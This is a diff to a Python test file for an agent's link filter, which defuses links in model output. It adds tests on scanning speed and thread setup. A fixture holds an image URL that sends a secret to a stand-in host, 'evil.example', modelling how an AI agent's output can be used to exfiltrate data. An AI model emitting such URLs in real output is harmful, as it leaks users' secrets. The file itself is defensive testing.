@@ -4,14 +4,18 @@ from __future__ import annotations
 
 import random
 import re
+import threading
 import time
+from collections import Counter
 
 import pytest
 from markdown_it import MarkdownIt
 
 from plainloop.agent.base.addresses import find_named, to_key
-from plainloop.agent.base.links import NOTE, LinkFilter
+from plainloop.agent.base.links import NOTE, LinkFilter, disarm_text
+from plainloop.agent.base.text import SLICE_CHARS
 from tests.base.test_addresses import KINDS
+from tests.ticking import counted_ticks
 
 SECRET = "born-1815"
 EVIL = f"https://evil.example/p.png?d={SECRET}"
@@ -149,3 +153,28 @@ def test_long_hostile_words_cost_no_more_than_short_ones(kind: str):
     short, long = (((kind * size)[:size] + "x ") * (100_000 // size) for size in (100, 2_000))
 
     assert min(take_s(long) for _ in range(3)) < 2 * min(take_s(short) for _ in range(3))
+
+
+async def test_other_tasks_run_while_a_long_text_is_scanned():
+    text = f"see {EVIL} there " * 2_000
+    lookups = Counter[int]()  # by the turn of the other task in which they were made
+    async with counted_ticks() as ticks:
+        links = LinkFilter(lambda _: bool(lookups.update([ticks.count])))
+        shown = await disarm_text(text, links)
+
+    slices = len(text) // SLICE_CHARS - 1  # the other task may begin one later
+    assert ticks.count >= slices
+    assert max(lookups.values()) * slices <= sum(lookups.values()) * 2
+    assert shown == pass_on(text)
+
+
+async def test_what_the_first_lookup_needs_is_prepared_once_in_a_thread():
+    threads: list[threading.Thread] = []
+    links = LinkFilter(KNOWN.__contains__, NOTE, lambda: threads.append(threading.current_thread()))
+
+    assert await links.pass_on("Yes. It's fine (7: e") == "Yes. It's fine (7: e"
+    assert threads == []
+
+    await links.pass_on("vil.example/x and evil.example/y")
+    assert len(threads) == 1
+    assert threads[0] is not threading.current_thread()
